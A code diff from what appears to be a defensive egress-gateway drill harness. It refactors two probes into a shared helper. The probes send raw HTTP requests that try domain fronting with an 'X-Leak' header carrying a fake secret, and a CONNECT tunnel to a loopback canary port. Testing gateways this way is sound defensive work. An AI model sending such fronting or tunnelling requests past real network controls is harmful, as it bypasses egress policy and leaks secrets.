@@ -246,32 +246,29 @@ def _through_gateway(url_template: str, *, headers: str = "{}") -> Run:
     return run
 
 
-def _fronting(ctx: DrillContext) -> Outcome:
-    request = (f"GET http://{BAIT_ALLOWED}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{ctx.canary.tcp_port}"
-               f"\\r\\nX-Leak: {ctx.fake_secret}\\r\\nConnection: close\\r\\n\\r\\n")
-    with ctx.watching() as watch:
-        result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
-    out = (result.stdout + result.stderr).strip()
-    evidence = ctx.evidence(result)
-    outcome = watch.outcome(f"refused: {out}", evidence)
-    if outcome.verdict == "held" and " 200 " in out:
-        return Outcome("breached", f"the gateway forwarded a fronted request: {out}",
-                       tuple(evidence))
-    return outcome
+def _raw_to_gateway(request_template: str, what: str) -> Run:
+    """Send a hand-written request to the gateway: held when it refused (no 200) and the canary
+    saw nothing."""
+    def run(ctx: DrillContext) -> Outcome:
+        request = request_template.format(allowed=BAIT_ALLOWED, port=ctx.canary.tcp_port,
+                                          secret=ctx.fake_secret)
+        with ctx.watching() as watch:
+            result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
+        out = (result.stdout + result.stderr).strip()
+        evidence = ctx.evidence(result)
+        outcome = watch.outcome(f"refused: {out}", evidence)
+        if outcome.verdict == "held" and " 200 " in out:
+            return Outcome("breached", f"the gateway {what}: {out}", tuple(evidence))
+        return outcome
+    return run
 
 
-def _connect_literal(ctx: DrillContext) -> Outcome:
-    request = (f"CONNECT 127.0.0.1:{ctx.canary.tcp_port} HTTP/1.1\\r\\n"
-               f"Host: 127.0.0.1:{ctx.canary.tcp_port}\\r\\n\\r\\n")
-    with ctx.watching() as watch:
-        result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
-    out = (result.stdout + result.stderr).strip()
-    evidence = ctx.evidence(result)
-    outcome = watch.outcome(f"refused: {out}", evidence)
-    if outcome.verdict == "held" and " 200 " in out:
-        return Outcome("breached", f"the gateway opened a tunnel to loopback: {out}",
-                       tuple(evidence))
-    return outcome
+_fronting = _raw_to_gateway(
+    "GET http://{allowed}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nX-Leak: {secret}"
+    "\\r\\nConnection: close\\r\\n\\r\\n", "forwarded a fronted request")
+_connect_literal = _raw_to_gateway(
+    "CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
+    "opened a tunnel to loopback")
 
 
 def _secret_wrong_host(ctx: DrillContext) -> Outcome:
